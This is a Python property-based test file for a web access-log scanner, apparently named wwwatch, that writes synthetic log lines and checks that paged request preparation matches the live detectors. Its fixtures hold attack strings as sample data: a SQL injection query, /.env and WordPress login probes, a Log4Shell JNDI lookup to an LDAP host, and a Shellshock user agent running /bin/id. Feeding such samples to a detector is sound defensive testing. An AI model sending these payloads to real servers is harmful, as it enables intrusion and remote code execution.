"""What a log's texts tell, worked out once: the same as page by page."""

from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from detector.window import make_ready
from enrich import Enrichment
from wwwatch.scan.described import Preparer
from wwwatch.scan.inputs import Input
from wwwatch.scan.judging import pages
from wwwatch.scan.reading import Reader
from wwwatch.scan.rows import in_order, to_events

CLIENTS = st.sampled_from(["192.0.2.1", "192.0.2.2", "2001:db8::1", "2001:db8::2", "::ffff:192.0.2.9"])
PATHS = st.sampled_from(["/", "/a.css", "/login?next=/", "/wp-login.php", "/?id=1%27+union+select+1", "/.env", "*"])
REFERRERS = st.sampled_from(["-", "https://example.org/", "${jndi:ldap://192.0.2.66/a}"])
AGENTS = st.sampled_from(["-", "Mozilla/5.0 Firefox/130.0", "curl/8", "sqlmap/1.8", "() { :; }; /bin/id"])
LINES = st.lists(st.tuples(CLIENTS, PATHS, REFERRERS, AGENTS), min_size=1, max_size=60)


def read(folder: Path, lines: list[tuple[str, str, str, str]]) -> tuple[pl.DataFrame, pl.Series]:
    text = "".join(
        f'{client} - - [02/Mar/2026:00:00:{number % 60:02} +0000] "GET {path} HTTP/1.1" 200 9 "{referrer}" "{agent}"\n'
        for number, (client, path, referrer, agent) in enumerate(lines)
    )
    log = folder / "access.log"
    log.write_text(text)
    item = Input("access.log", str(log), is_named=True)
    return in_order(Reader(lambda _: None, "UTC", Enrichment()).read([item]).take_pieces())


@given(lines=LINES)
def test_prepared_requests_are_the_live_detectors(
    tmp_path_factory: pytest.TempPathFactory, lines: list[tuple[str, str, str, str]]
) -> None:
    rows, order = read(tmp_path_factory.mktemp("log"), lines)
    for preparer in (Preparer(), Preparer(rows)):
        for page in pages(rows, order, 7):
            assert_frame_equal(preparer.prepare(page), make_ready(to_events(page)))


def test_what_is_known_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("wwwatch.scan.described.MOST", 3)
    rows, order = read(tmp_path, [("192.0.2.1", f"/{number % 9}", "-", "-") for number in range(50)])
    for preparer in (Preparer(), Preparer(rows)):
        for page in pages(rows, order, 7):
            assert_frame_equal(preparer.prepare(page), make_ready(to_events(page)))
